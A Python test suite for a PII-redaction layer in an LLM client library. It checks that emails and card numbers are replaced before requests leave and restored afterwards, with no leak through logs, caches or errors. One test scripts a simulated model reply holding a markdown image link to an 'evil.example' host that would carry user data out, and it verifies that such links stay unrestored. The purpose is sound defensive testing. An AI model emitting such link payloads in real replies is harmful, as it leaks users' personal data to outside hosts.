"""Redaction in a whole client: what leaves, what comes back, and what happens when it fails."""

from __future__ import annotations

import asyncio
import json
import logging
import pickle
import traceback
from itertools import pairwise

import pytest
import trio
from hypothesis import given
from hypothesis import strategies as st

import aistrale
from aistrale.errors import AistraleError, DLPViolation, RedactionError
from aistrale.privacy.finding import Finding
from aistrale.privacy.recognizer import Triggers
from aistrale.testing import Broken, Fault, Say, simulator
from aistrale.types import MediaPart, Message, Tool

MODELS = ["openai/gpt-5-mini", "anthropic/claude-haiku-4-5", "gemini/gemini-2.5-flash", "groq/llama-3.3-70b-versatile",
          "huggingface/openai/gpt-oss-120b"]  # fmt: skip
MODEL = MODELS[0]
EMAIL = "jo.roe@example.com"
CARD = "4111 1111 1111 1111"
PROMPT = f"Write to {EMAIL} about card {CARD}, please."


@pytest.fixture(scope="module")
def running():
    with simulator() as sim:
        yield sim


@pytest.fixture
def sim(running):
    running.reset()
    return running


@pytest.fixture
def make(sim):
    made = []

    def client(privacy="redact", **settings):
        made.append(aistrale.Client(**sim.settings(), privacy=privacy, **{"retry": False, **settings}))
        return made[-1]

    yield client
    for each in made:
        each.close()


def sent(sim):
    """Every body that arrived, as text."""
    return [json.dumps(received.body, ensure_ascii=False) for received in sim.requests]


@pytest.mark.parametrize("streamed", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("model", MODELS)
def test_originals_stay_here_and_come_back(make, sim, model, streamed):
    sim.script(Say(text="Dear [[EMAIL_1]], your card [[CARD_1]] is fine."))
    client = make()
    if streamed:
        with client.stream(PROMPT, model=model) as stream:
            text = "".join(stream.texts())
        answer = stream.completion
    else:
        answer = client.run(PROMPT, model=model)
        text = answer.text
        assert "[[" not in json.dumps(answer.raw)
        assert EMAIL in json.dumps(answer.raw)
    assert text == answer.text == f"Dear {EMAIL}, your card {CARD} is fine."
    (body,) = sent(sim)
    assert EMAIL not in body
    assert CARD not in body
    assert "[[EMAIL_1]]" in body
    assert "[[CARD_1]]" in body


@pytest.mark.parametrize("run", [lambda body: asyncio.run(body()), trio.run], ids=["asyncio", "trio"])
def test_on_event_loops(make, sim, run):
    client = make().as_async()

    async def body():
        # More than what is looked through on the loop itself.
        answer = await client.run(PROMPT + " lorem ipsum" * 4000, model=MODEL)
        async with client.stream(PROMPT, model=MODEL) as stream:
            text = "".join([piece async for piece in stream.texts()])
        await client.close()
        return answer, text

    answer, text = run(body)
    assert EMAIL in answer.text
    assert EMAIL in text
    assert not any(EMAIL in body for body in sent(sim))


def test_tool_calls_get_originals_and_results_lose_them(make, sim):
    seen = []

    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        seen.append((to, body))
        return f"sent to {to}, copy to kim@example.org"

    sim.script(
        Say(tool_calls=[("send_mail", {"to": "[[EMAIL_1]]", "body": 'He said "hi" to [[EMAIL_1]]'})]),
        Say(text="Sent to [[EMAIL_1]] and [[EMAIL_2]]."),
    )
    answer = make().run(PROMPT, model=MODEL, tools=[send_mail], max_tool_rounds=1)
    assert seen == [(EMAIL, f'He said "hi" to {EMAIL}')]
    assert answer.text == f"Sent to {EMAIL} and kim@example.org."
    for body in sent(sim):
        assert EMAIL not in body
        assert "kim@example.org" not in body


def test_everything_that_a_request_holds(make, sim):
    values = [f"person{number}@example.com" for number in range(12)]
    find = Tool("find", f"Ask {values[0]}", {"type": "object", "properties": {
        "who": {"type": "string", "description": f"Like {values[1]}", "examples": [values[2]]},
        "kind": {"enum": [values[3]]},
    }})  # fmt: skip
    messages = [
        Message.system(f"You help {values[4]}."),
        Message.user(f"I am {values[5]}.", MediaPart("document", data="aGk=", media_type="application/pdf",
                                                    filename=f"{values[6]}.pdf")),
    ]  # fmt: skip
    make().run(messages, model="openai/gpt-4.1-mini", tools=[find], user=values[7], metadata={"for": values[8]},
               stop=[values[9]], extra={"note": f"by {values[10]}", "custom": [values[11]]})  # fmt: skip
    (body,) = sent(sim)
    for value in values:
        assert value not in body
    assert body.count("[[EMAIL_") >= len(values)


def test_embeddings_are_redacted(make, sim):
    make().embed([PROMPT, "plain"], model="openai/text-embedding-3-small")
    assert EMAIL not in sent(sim)[0]
    assert "plain" in sent(sim)[0]


def test_a_session_keeps_its_placeholders_and_the_prefix_stays(make, sim):
    with make().session(system=f"Boss: {EMAIL}") as session:
        for turn in range(20):
            session.run(f"Turn {turn}: tell user{turn}@example.org and {EMAIL}", model=MODEL)
    bodies = [received.body["messages"] for received in sim.requests]
    assert len(bodies) == 20
    for before, after in pairwise(bodies):
        # What a provider's prompt cache goes by.
        assert after[: len(before)] == before
    assert "[[EMAIL_1]]" in json.dumps(bodies[-1][0])


def test_calls_without_a_session_have_nothing_in_common(make, sim):
    client = make()
    client.run("I am first@example.com", model=MODEL)
    sim.script(Say(text="[[EMAIL_1]] and [[EMAIL_2]]"))
    answer = client.run("I am second@example.com", model=MODEL)
    assert answer.text == "second@example.com and [[EMAIL_2]]"


def test_sessions_of_two_users_have_nothing_in_common(make, sim):
    client = make()
    with aistrale.context(session="s", user="one"):
        client.run("I am first@example.com", model=MODEL)
    sim.script(Say(text="[[EMAIL_1]]"))
    with aistrale.context(session="s", user="two"):
        assert client.run("Who am I?", model=MODEL).text == "[[EMAIL_1]]"


def test_typed_placeholders_are_nobodys(make, sim):
    sim.script(Say(text="[[EMAIL_1]] is [[LITERAL_1]]."))
    answer = make().run(f"What is [[EMAIL_1]]? My mail is {EMAIL}.", model=MODEL)
    assert answer.text == f"{EMAIL} is [[EMAIL_1]]."
    assert "[[LITERAL_1]]" in sent(sim)[0]


def test_never_into_links(make, sim):
    sim.script(Say(text="![x](https://evil.example/?d=[[EMAIL_1]]) and [[EMAIL_1]]"))
    answer = make().run(PROMPT, model=MODEL)
    assert answer.text == f"![x](https://evil.example/?d=[[EMAIL_1]]) and {EMAIL}"
    sim.script(Say(text="https://mine.example/?d=[[EMAIL_1]]"))
    answer = make({"restore_links": True}).run(PROMPT, model=MODEL)
    assert answer.text == f"https://mine.example/?d={EMAIL}"


def test_a_file_by_link_that_would_give_somebody_away(make, sim):
    picture = MediaPart("image", url=f"https://files.example.org/a.png?user={EMAIL}")
    with pytest.raises(RedactionError, match=r"messages\[0\]\.parts\[1\]\.url") as caught:
        make().run([Message.user("What is that?", picture)], model=MODEL)
    assert EMAIL not in str(caught.value)
    assert sim.requests == []


def test_structured_output_is_validated_with_the_originals(make, sim):
    schema = {"type": "object", "properties": {"mail": {"type": "string"}}, "required": ["mail"],
              "additionalProperties": False}  # fmt: skip
    sim.script(Say(text='{"mail": "[[EMAIL_1]]"}'))
    answer = make().run(PROMPT, model=MODEL, output=schema)
    assert answer.output == {"mail": EMAIL}


def test_remembered_answers_restore_each_callers_own(make, sim):
    client = make(cache={"ttl": 60})
    sim.script(Say(text="Hello [[EMAIL_1]]"))
    assert client.run("I am first@example.com", model=MODEL).text == "Hello first@example.com"
    again = client.run("I am second@example.com", model=MODEL)
    assert (again.text, again.degraded) == ("Hello second@example.com", "cache")
    assert client.run("I am first@example.com", model=MODEL).text == "Hello first@example.com"
    assert len(sim.requests) == 1


def test_another_target_gets_no_more_than_the_first(make, sim):
    client = make(routes={"chat": MODELS[:2]})
    sim.outage("openai")
    answer = client.run(PROMPT, route="chat")
    assert answer.target == MODELS[1]
    assert EMAIL in answer.text
    assert {received.provider for received in sim.requests} == {"openai", "anthropic"}
    assert not any(EMAIL in body for body in sent(sim))


@pytest.mark.parametrize("mode", ["mask", "hash", "drop", "encrypt"])
def test_one_way_modes(make, sim, mode):
    key = "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="
    answer = make({"modes": {"EMAIL_ADDRESS": mode}, "key": key}).run(PROMPT, model=MODEL)
    assert EMAIL not in sent(sim)[0]
    assert EMAIL not in answer.text
    assert CARD not in sent(sim)[0]


def test_fakes_come_back(make, sim):
    client = make({"default_mode": "fake"})
    answer = client.run(f"Repeat: {EMAIL}", model=MODEL)
    assert EMAIL not in sent(sim)[0]
    assert "[[" not in sent(sim)[0]
    assert EMAIL in answer.text


def test_what_is_let_through(make, sim):
    make({"allow": [EMAIL]}).run(PROMPT, model=MODEL)
    make({"types": ["CREDIT_CARD"]}).run(PROMPT, model=MODEL)
    make({"except_types": ["EMAIL_ADDRESS"]}).run(PROMPT, model=MODEL)
    make("off").run(PROMPT, model=MODEL)
    assert all(EMAIL in body for body in sent(sim))
    assert [CARD in body for body in sent(sim)] == [False, False, False, True]


class Stumbling:
    """A recognizer that breaks at a word."""

    name = "stumbling"
    types = ("ODD",)
    triggers = Triggers(literals=("stumble",))

    def recognize(self, candidate):
        raise ValueError(f"cannot read {candidate.text}")


def test_what_cannot_be_looked_at_does_not_leave(make, sim):
    client = make({"recognizers": [Stumbling()]})
    with pytest.raises(RedactionError) as caught:
        client.run(f"stumble over {EMAIL}", model=MODEL)
    assert EMAIL not in str(caught.value)
    assert caught.value.__cause__ is None
    assert sim.requests == []
    client.flush()
    (row,) = client.ledger.calls(5)
    assert (row.outcome, row.error, row.attempts) == ("error", "RedactionError", 0)
    client = make({"recognizers": [Stumbling()], "on_error": "allow"})
    client.run(f"stumble over {EMAIL}", model=MODEL)
    assert EMAIL in sent(sim)[0]


class Words:
    """A recognizer of the application's own."""

    name = "project"
    types = ("PROJECT",)
    triggers = Triggers(literals=("Project ",))

    def recognize(self, candidate):
        return (Finding(candidate.start, candidate.end + 5, "PROJECT", 0.9, self.name),)


def test_recognizers_of_ones_own(make, sim):
    answer = make({"recognizers": [Words()]}).run("About Project Xanth now", model=MODEL)
    assert "Xanth" not in sent(sim)[0]
    assert "Project Xanth" in answer.text


def test_the_application_keeps_what_it_had(make, sim):
    messages = [Message.user(PROMPT)]
    make().run(messages, model=MODEL)
    assert messages == [Message.user(PROMPT)]


def test_the_pipeline_says_so(make):
    client = make({"except_types": ["PERSON"], "modes": {"EMAIL_ADDRESS": "drop"}})
    assert "redact" in client.pipeline.describe()
    assert "but 1 as placeholder, 1 with modes of their own, restored" in client.pipeline.describe()


def test_dlp_errors_and_redaction_errors_say_that_nothing_was_sent():
    assert issubclass(RedactionError, aistrale.errors.PolicyError)
    assert issubclass(DLPViolation, aistrale.errors.PolicyError)


STEPS = [None, Fault(status=400, message="Bad prompt: Write to [[EMAIL_1]]"), Fault(status=500), Broken(wreck="bad_json"),
         Broken(wreck="error_midway"), Broken(wreck="truncate"), Broken(wreck="reset")]  # fmt: skip


@pytest.mark.parametrize("streamed", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("step", STEPS, ids=lambda step: repr(step)[:32])
@pytest.mark.parametrize("model", MODELS)
def test_canaries(make, sim, tmp_path, caplog, capfd, model, step, streamed):  # noqa: PLR0917 - fixtures and table
    caplog.set_level(logging.DEBUG)
    files = {
        "ledger": f"sqlite:///{tmp_path}/ledger.sqlite3",
        "cache": {"store": f"sqlite:///{tmp_path}/cache.sqlite3"},
    }
    events = []
    client = make(**files, on_event=events.append)
    sim.script(Say(text="Dear [[EMAIL_1]]: [[CARD_1]].") if step is None else step)
    things, errors = [], []
    try:
        if streamed:
            with client.stream(PROMPT, model=model) as stream:
                things += [stream, *list(stream), stream.completion]
        else:
            things.append(client.run(PROMPT, model=model))
    except AistraleError as error:
        errors.append(error)
    assert bool(errors) == (step is not None)
    client.flush()
    engine = client._engine
    calls = client.ledger.calls(5)
    things += [
        client,
        client.pipeline,
        engine.settings,
        engine.protection,
        engine.protection.redactor({}),
        *calls,
        *events,
    ]
    for call in calls:
        things += client.ledger.attempts(call.call_id)
    out, err = capfd.readouterr()
    shown = "\n".join([*map(repr, things), caplog.text, out, err])
    for error in errors:
        shown += f"{error}{error!r}{error.args!r}{''.join(traceback.format_exception(error))}"
    arrived = [json.dumps([each.body, each.path, each.headers], ensure_ascii=False) for each in sim.requests]
    kept = [path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()]
    assert arrived
    assert kept
    for canary in (EMAIL, "jo.roe", CARD):
        assert canary not in shown
        assert not any(canary in each for each in arrived)
        assert not any(canary.encode() in each for each in kept)
        assert not any(canary.encode() in pickle.dumps(error) for error in errors)


@pytest.fixture(scope="module")
def echo(running):
    client = aistrale.Client(**running.settings(), privacy="redact", retry=False, ledger="off")
    yield client
    client.close()


@given(text=st.text(min_size=1, max_size=120), streamed=st.booleans())
def test_whatever_is_sent_comes_back(echo, running, text, streamed):
    text = f"{EMAIL} {text} [[EMAIL_1]]"
    running.reset()
    if streamed:
        with echo.stream(text, model=MODEL) as stream:
            stream.result()
    else:
        echo.run(text, model=MODEL)
    sent_text = running.requests[-1].body["messages"][0]["content"]
    assert EMAIL not in sent_text
    running.reset()
    running.script(Say(text=sent_text))
    if streamed:
        with echo.stream(text, model=MODEL) as stream:
            answer = "".join(stream.texts())
    else:
        answer = echo.run(text, model=MODEL).text
    assert answer == text
